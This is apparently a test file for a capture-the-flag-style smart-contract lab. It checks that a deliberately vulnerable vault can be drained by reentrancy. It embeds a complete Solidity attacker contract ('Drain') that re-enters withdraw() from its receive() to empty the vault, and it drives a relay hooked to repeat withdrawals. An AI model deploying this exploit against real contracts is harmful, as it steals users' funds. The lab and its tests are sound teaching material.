import { createRequire } from "node:module";
import { hexToBytes } from "@ethereumjs/util";
import { beforeEach, describe, expect, it } from "vitest";
import { ether, functionsOf, read, rpc, shopContracts, Wallet } from "../support/chain";
import { isSolved, resetInstance } from "../support/instance";

const vaultHolds = async (vault: string) => BigInt(await rpc<string>("eth_getBalance", [vault, "latest"]));

/** A student's own attacker, written in Solidity and compiled on their machine (here: by the test). */
const drainSource = `// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;
interface Vault { function deposit() external payable; function withdraw(uint256 amount) external; }
contract Drain {
    Vault private immutable vault;
    address private immutable owner;
    uint256 private share;
    constructor(Vault target) { vault = target; owner = msg.sender; }
    function go() external payable {
        share = msg.value;
        vault.deposit{value: msg.value}();
        vault.withdraw(msg.value);
        (bool sent, ) = owner.call{value: address(this).balance}("");
        require(sent);
    }
    receive() external payable {
        if (msg.sender == address(vault) && address(vault).balance >= share) vault.withdraw(share);
    }
}`;

function compileDrain() {
  const solc = createRequire(import.meta.url)("solc");
  const input = {
    language: "Solidity",
    sources: { "Drain.sol": { content: drainSource } },
    settings: { evmVersion: "cancun", outputSelection: { "*": { Drain: ["abi", "evm.bytecode.object"] } } },
  };
  const out = JSON.parse(solc.compile(JSON.stringify(input)));
  const drain = out.contracts["Drain.sol"].Drain;
  return { abi: drain.abi as unknown[], bytecode: `0x${drain.evm.bytecode.object}` as const };
}

describe("web3WalletChallenge: draining the vault by reentrancy", () => {
  beforeEach(resetInstance);

  it("the sandbox's Relay, hooked to withdraw again when paid, takes everyone's savings", async () => {
    const { vault, sample } = await shopContracts();
    const student = Wallet.random();
    await student.fund();
    const relay = sample("Relay");
    const relayAddress = await student.deploy(relay.bytecode);
    const before = await vaultHolds(vault.address);
    expect(before).toBe(10n * ether);
    const half = ether / 2n;
    // Half an ether into the vault, through the relay, so that the relay is the depositor.
    let receipt = await student.send({ to: relayAddress, value: half, data: relay.fn.relay!.encodeInput({ target: vault.address, data: vault.fn.deposit!.encodeInput(), value: half }) });
    expect(receipt.status).toBe("0x1");
    expect(await isSolved("web3WalletChallenge")).toBe(false);
    // When paid, withdraw the same half ether again, up to 30 times.
    const again = vault.fn.withdraw!.encodeInput(half);
    await student.send({ to: relayAddress, data: relay.fn.setHook!.encodeInput({ target: vault.address, data: again, runs: 30n }) });
    receipt = await student.send({ to: relayAddress, data: relay.fn.relay!.encodeInput({ target: vault.address, data: again, value: 0n }) });
    expect(receipt.status, receipt.revertReason ?? "").toBe("0x1");
    expect(await vaultHolds(vault.address)).toBe(0n);
    expect(BigInt(await rpc<string>("eth_getBalance", [relayAddress, "latest"]))).toBe(before + half);
    expect(await isSolved("web3WalletChallenge")).toBe(true);
  });

  it("an attacker contract of the student's own, deployed as bytecode, solves it in one transaction", async () => {
    const { vault } = await shopContracts();
    const drain = compileDrain();
    const student = Wallet.random();
    await student.fund();
    const address = await student.deploy(drain.bytecode, hexToBytes(`0x${vault.address.slice(2).padStart(64, "0")}`));
    const receipt = await student.send({ to: address, value: ether / 4n, data: functionsOf(drain.abi).go!.encodeInput() });
    expect(receipt.status, receipt.revertReason ?? "").toBe("0x1");
    expect(await vaultHolds(vault.address)).toBeLessThan(ether / 4n);
    expect(await student.balance()).toBeGreaterThan(10n * ether);
    expect(await isSolved("web3WalletChallenge")).toBe(true);
  });

  it("saving and withdrawing as a customer does, from a wallet or from a contract, does not solve it", async () => {
    const { vault, sample } = await shopContracts();
    const customer = Wallet.random();
    await customer.fund();
    const deposit = await customer.send({ to: vault.address, value: ether / 2n, data: vault.fn.deposit!.encodeInput() });
    expect(deposit.status).toBe("0x1");
    expect(await read<bigint>(vault.address, vault.fn.balanceOf!, customer.address)).toBe(ether / 2n);
    // Part, then the rest, then one wei too many (refused).
    expect((await customer.send({ to: vault.address, data: vault.fn.withdraw!.encodeInput(ether / 4n) })).status).toBe("0x1");
    expect((await customer.send({ to: vault.address, data: vault.fn.withdraw!.encodeInput(ether / 4n) })).status).toBe("0x1");
    const tooMuch = await customer.send({ to: vault.address, data: vault.fn.withdraw!.encodeInput(1n), gas: 100_000n });
    expect(tooMuch.status).toBe("0x0");
    expect(tooMuch.revertReason).toMatch(/more than you saved/);
    // A relay without a hook is an ordinary customer too: paid once per withdrawal.
    const relay = sample("Relay");
    const relayAddress = await customer.deploy(relay.bytecode);
    const half = ether / 2n;
    await customer.send({ to: relayAddress, value: half, data: relay.fn.relay!.encodeInput({ target: vault.address, data: vault.fn.deposit!.encodeInput(), value: half }) });
    const out = await customer.send({ to: relayAddress, data: relay.fn.relay!.encodeInput({ target: vault.address, data: vault.fn.withdraw!.encodeInput(half), value: 0n }) });
    expect(out.status).toBe("0x1");
    expect(await vaultHolds(vault.address)).toBe(10n * ether);
    expect(await isSolved("web3WalletChallenge")).toBe(false);
  });
});
